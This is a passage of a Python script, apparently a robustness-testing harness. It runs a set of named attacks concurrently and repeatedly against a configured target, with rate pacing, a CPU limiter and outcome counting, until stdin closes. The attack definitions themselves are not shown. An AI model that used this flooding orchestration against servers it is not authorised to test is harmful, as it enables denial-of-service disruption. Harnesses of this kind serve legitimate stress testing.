_CORES = 0.5  # maximum CPU cores of an attack that makes no pauses


async def _repeat(
    attack: Attack, target: Target, numbers: Iterator[int], outcomes: Counter[str], wait_s: float
) -> None:
    clock = asyncio.get_running_loop().time
    await asyncio.sleep(wait_s)
    while True:
        begun_s = clock()
        try:
            outcome = await attack.attempt(target, next(numbers))
        except (OSError, asyncio.IncompleteReadError, asyncio.InvalidStateError):
            outcome = ENDED
        except grpc.aio.AioRpcError as refused:
            outcome = refused.code().name
        except TimeoutError:
            outcome = "no answer"
        except asyncio.CancelledError:
            outcomes["under way"] += 1
            raise
        outcomes[outcome] += 1
        least_s, every_s = _LEAST_PAUSE_S / target.rate, attack.every_s / target.rate
        await asyncio.sleep(max(least_s, begun_s + every_s - clock()))


async def _limit_cpu() -> None:
    """Stop this process whenever it has used more than its share of a core."""
    begun_s, used_s = time.monotonic(), time.process_time()
    while True:
        await asyncio.sleep(0.005)
        over_s = (time.process_time() - used_s) / _CORES - (time.monotonic() - begun_s)
        if over_s > 0.0:
            time.sleep(over_s)  # noqa: ASYNC251 - stops all attacks
        begun_s, used_s = time.monotonic(), time.process_time()


def possible(target: Target, only: str) -> list[Attack]:
    """The attacks on `target` whose names contain `only`."""
    return [attack for attack in ATTACKS if only in attack.name and getattr(target, attack.needs)]


async def _attack_until_eof(target: Target, only: str) -> None:
    attacks = possible(target, only)
    outcomes: dict[str, Counter[str]] = {attack.name: Counter() for attack in attacks}
    flat_out = math.isinf(target.rate)
    attacking = [asyncio.create_task(_limit_cpu())] if flat_out else []
    for attack in attacks:
        numbers = itertools.count()
        loops = max(attack.at_once, _FLAT_OUT if flat_out else 0)
        for number in range(loops):
            wait_s = 0.0 if flat_out else _BEGIN_S * number / loops
            repeating = _repeat(attack, target, numbers, outcomes[attack.name], wait_s)
            attacking.append(asyncio.create_task(repeating))
    print("attacking", flush=True)
    await asyncio.to_thread(sys.stdin.read)
    for task in attacking:
        task.cancel()
    for fault in await asyncio.gather(*attacking, return_exceptions=True):
        assert isinstance(fault, asyncio.CancelledError), fault
    print(json.dumps(outcomes))


if __name__ == "__main__":
    asyncio.run(_attack_until_eof(Target(**json.loads(sys.argv[1])), sys.argv[2]))
